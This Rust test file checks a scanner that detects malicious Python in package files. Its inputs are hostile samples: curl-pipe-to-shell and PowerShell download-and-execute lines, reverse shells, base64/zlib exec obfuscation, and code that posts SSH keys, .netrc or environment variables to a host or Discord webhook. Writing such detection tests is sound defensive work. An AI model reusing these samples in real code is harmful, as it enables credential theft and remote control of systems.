use std::time::{Duration, Instant};

use super::*;

/// The rule ids found in `source` run as `context`, with their severities.
fn scan_as(context: Context, source: &str) -> Vec<(&'static str, Severity)> {
    let mut parser = Parser::new();
    let deadline = Instant::now() + Duration::from_secs(10);
    let path = match context {
        Context::Setup => "pkg-1.0/setup.py",
        Context::Pth => "evil.pth",
        Context::Init => "pkg/__init__.py",
        Context::Module => "pkg/util.py",
    };
    scan(&mut parser, path, source.as_bytes(), context, deadline)
        .expect("in time")
        .into_iter()
        .map(|f| (f.rule, f.severity))
        .collect()
}

fn rules(context: Context, source: &str) -> Vec<&'static str> {
    scan_as(context, source)
        .into_iter()
        .map(|(r, _)| r)
        .collect()
}

fn check(context: Context, source: &str, expected: &[&str]) {
    let mut got = rules(context, source);
    got.sort_unstable();
    let mut expected = expected.to_vec();
    expected.sort_unstable();
    assert_eq!(got, expected, "{source}");
}

#[test]
fn contexts_by_path() {
    assert_eq!(Context::of("pkg-1.0/setup.py"), Some(Context::Setup));
    assert_eq!(
        Context::of("pkg-1.0/tests/data/setup.py"),
        Some(Context::Module)
    );
    assert_eq!(Context::of("distutils-precedence.pth"), Some(Context::Pth));
    assert_eq!(Context::of("pkg/__init__.py"), Some(Context::Init));
    assert_eq!(Context::of("pkg/README.md"), None);
}

#[test]
fn setup_py_network_process_and_exec() {
    check(
        Context::Setup,
        "import urllib.request\nurllib.request.urlopen('http://127.0.0.1/ping')\nfrom setuptools import setup\nsetup(name='x')\n",
        &["py-setup-network"],
    );
    check(
        Context::Setup,
        "import subprocess\nsubprocess.check_call(['cmake', '..'])\n",
        &["py-setup-process"],
    );
    check(
        Context::Setup,
        "code = input()\nexec(code)\n",
        &["py-setup-exec"],
    );
    // The usual way to read a version: not dynamic code.
    check(
        Context::Setup,
        "exec(open('pkg/version.py').read())\nfrom setuptools import setup\nsetup(name='x')\n",
        &[],
    );
    // Network calls inside a function setup.py never calls are still what the file can do;
    // a setup.py with no such call is clean.
    check(
        Context::Setup,
        "from setuptools import setup\nsetup(name='x', version='1.0')\n",
        &[],
    );
}

#[test]
fn download_then_execute() {
    let source = "import urllib.request, os\nurllib.request.urlretrieve('http://127.0.0.1/p', '/tmp/p')\nos.system('chmod +x /tmp/p && /tmp/p')\n";
    let found = scan_as(Context::Setup, source);
    assert!(
        found.contains(&("py-download-exec", Severity::Critical)),
        "{found:?}"
    );
    check(
        Context::Module,
        "import requests\ndef f():\n    exec(requests.get('http://127.0.0.1/x').text)\n",
        &["py-download-exec"],
    );
    check(
        Context::Module,
        "import subprocess\nsubprocess.Popen('curl -s http://127.0.0.1/x.sh | bash', shell=True)\n",
        &["py-download-exec"],
    );
    check(
        Context::Module,
        "import os\nos.system(\"powershell -c IEX (New-Object Net.WebClient).DownloadString('http://127.0.0.1/a')\")\n",
        &["py-download-exec"],
    );
    // Running a local command is no download.
    check(
        Context::Module,
        "import subprocess\nsubprocess.run(['git', 'status'])\n",
        &[],
    );
}

#[test]
fn exec_of_decoded_data() {
    check(
        Context::Module,
        "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n",
        &["py-exec-decoded"],
    );
    // Through an alias, a variable, and __import__.
    check(
        Context::Module,
        "from base64 import b64decode as d\npayload = d('cHJpbnQoMSk=')\nexec(payload)\n",
        &["py-exec-decoded"],
    );
    check(
        Context::Module,
        "exec(__import__('zlib').decompress(__import__('base64').b64decode(b'eJwrKMrMK1EwVCjISy1OzSvRMQIAM9gFmA==')))\n",
        &["py-exec-decoded"],
    );
    check(
        Context::Module,
        "import marshal\nexec(marshal.loads(b'\\xe3\\x00'))\n",
        &["py-exec-decoded"],
    );
    check(
        Context::Module,
        "eval(bytes.fromhex('7072696e742831290a').decode())\n",
        &["py-exec-decoded"],
    );
    check(
        Context::Module,
        "_ = lambda __: __import__('zlib').decompress(__[::-1])\nexec((_)(b'abc'))\n",
        &["py-exec-decoded"],
    );
    // Decoding without executing, and executing a literal, are not this rule.
    check(
        Context::Module,
        "import base64\ndata = base64.b64decode(s)\nexec('x = 1')\n",
        &[],
    );
}

#[test]
fn pth_files() {
    // setuptools' own distutils-precedence.pth: code at start-up, but nothing risky.
    let found = scan_as(
        Context::Pth,
        "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('_distutils_hack').add_shim(); \n",
    );
    assert_eq!(found, [("py-pth-import", Severity::Low)]);
    check(
        Context::Pth,
        "import os; os.system('curl -s http://127.0.0.1/a | sh')\n",
        &["py-pth-exec", "py-download-exec"],
    );
    check(
        Context::Pth,
        "import base64; exec(base64.b64decode('cHJpbnQoMSk='))\n",
        &["py-pth-exec", "py-exec-decoded"],
    );
    // Path lines are not code.
    check(Context::Pth, "/opt/lib/python\n../src\n", &[]);
}

#[test]
fn init_top_level_but_not_functions() {
    check(
        Context::Init,
        "import socket\ns = socket.create_connection(('127.0.0.1', 4444))\n",
        &["py-import-network"],
    );
    check(
        Context::Init,
        "import subprocess\nsubprocess.Popen(['python', '-c', 'print(1)'])\n",
        &["py-import-process"],
    );
    check(
        Context::Init,
        "import subprocess\ndef version():\n    return subprocess.check_output(['git', 'describe'])\n",
        &[],
    );
}

#[test]
fn credentials_sent_out() {
    check(
        Context::Module,
        "import os, requests\nkey = open(os.path.expanduser('~/.ssh/id_rsa')).read()\nrequests.post('http://127.0.0.1/c', data=key)\n",
        &["py-credential-exfil"],
    );
    check(
        Context::Module,
        "import os, json, urllib.request\nbody = json.dumps(dict(os.environ)).encode()\nurllib.request.urlopen('http://127.0.0.1/c', body)\n",
        &["py-credential-exfil"],
    );
    // Reading credentials to use them (a cloud SDK) is not sending them out.
    check(
        Context::Module,
        "import os\nPATH = os.path.expanduser('~/.aws/credentials')\ndef load():\n    return open(PATH).read()\n",
        &[],
    );
}

#[test]
fn webhooks() {
    check(
        Context::Module,
        "import requests\nrequests.post('https://discord.com/api/webhooks/123456789012345678/abcdefghijklmnopqrstuvwxyz0123456789ABCDEFGHIJ', json={})\n",
        &["py-webhook-exfil"],
    );
    check(
        Context::Module,
        "URL = 'https://discord.com/api/webhooks/{id}/{token}'\n",
        &[],
    );
}

#[test]
fn reverse_shells() {
    check(
        Context::Module,
        "import socket, os, pty\ns = socket.socket()\ns.connect(('127.0.0.1', 4444))\nfor fd in (0, 1, 2):\n    os.dup2(s.fileno(), fd)\npty.spawn('/bin/sh')\n",
        &["py-reverse-shell"],
    );
    check(
        Context::Module,
        "import os\nos.system('bash -i >& /dev/tcp/127.0.0.1/4444 0>&1')\n",
        &["py-reverse-shell"],
    );
    check(Context::Module, "import os\nos.dup2(a, b)\n", &[]);
}

#[test]
fn obfuscation() {
    let blob = "QUJDRGFiY2QxMjM0".repeat(80);
    let found = scan_as(Context::Module, &format!("DATA = '{blob}'\n"));
    assert_eq!(found, [("py-encoded-blob", Severity::Medium)]);
    check(
        Context::Module,
        "from pyarmor_runtime_000000 import __pyarmor__\n__pyarmor__(__name__, __file__, b'PY000000')\n",
        &["py-pyarmor"],
    );
    check(Context::Module, "DATA = 'short and plain'\n", &[]);
}

#[test]
fn broken_code_still_yields_its_calls() {
    check(
        Context::Module,
        "import base64\ndef f(:\n    pass\nexec(base64.b64decode('cHJpbnQoMSk='))\n",
        &["py-exec-decoded"],
    );
}

#[test]
fn findings_carry_line_and_excerpt() {
    let mut parser = Parser::new();
    let deadline = Instant::now() + Duration::from_secs(10);
    let found = scan(
        &mut parser,
        "pkg/a.py",
        b"x = 1\n\nimport base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n",
        Context::Module,
        deadline,
    )
    .expect("in time");
    assert_eq!(found.len(), 1);
    assert_eq!(found[0].file, "pkg/a.py");
    assert_eq!(found[0].line, Some(4));
    assert_eq!(found[0].excerpt, "exec(base64.b64decode('cHJpbnQoMSk='))");
    assert_eq!(found[0].kind, Kind::Threat);
}

#[test]
fn a_passed_deadline_stops_the_parse() {
    let mut parser = Parser::new();
    let source = "x = 1\n".repeat(200_000);
    let past = Instant::now() - Duration::from_secs(1);
    assert!(
        scan(
            &mut parser,
            "a.py",
            source.as_bytes(),
            Context::Module,
            past
        )
        .is_err()
    );
}

#[test]
fn plain_modules_are_parsed_only_when_a_threat_is_possible() {
    use crate::code::python_worth_parsing as worth;
    assert!(!worth(b"def add(a, b):\n    return a + b\n"));
    // Ordinary uses of processes, the environment and exec.
    assert!(!worth(
        b"import subprocess\nsubprocess.run(['git', 'status'])\n"
    ));
    assert!(!worth(b"import os\nenv = dict(os.environ)\n"));
    assert!(!worth(b"exec(compile(tree, name, 'exec'))\n"));
    assert!(worth(b"import base64\nexec(base64.b64decode(x))\n"));
    assert!(worth(b"os.system('curl https://x.example | sh')"));
    assert!(worth(b"os.system('wget -q -O- $U | sh')"));
    // The command's pieces apart in the source.
    assert!(worth(
        b"subprocess.run([\n    'curl',\n    '-fsSL',\n    'https://x.example/p',\n])"
    ));
    // A downloader with nothing to download: no download rule can match.
    assert!(!worth(b"subprocess.run(['curl', x], check=False)\n"));
    assert!(worth(
        b"k = open('~/.ssh/id_rsa').read(); requests.post(u, data=k)"
    ));
    assert!(worth(b"from pyarmor_runtime import __pyarmor__"));
}

#[test]
fn credentials_must_reach_the_call_that_sends() {
    // An environment copied for a subprocess, and a request elsewhere: no flow.
    check(
        Context::Module,
        "import os, urllib.request\nenv = dict(os.environ)\nenv['X'] = '1'\ndef fetch(u):\n    return urllib.request.urlopen(u).read()\n",
        &[],
    );
    // A credential file's content passed to the request.
    check(
        Context::Module,
        "import os, requests\nrequests.post('http://127.0.0.1/c', data=open('/home/u/.netrc').read())\n",
        &["py-credential-exfil"],
    );
}
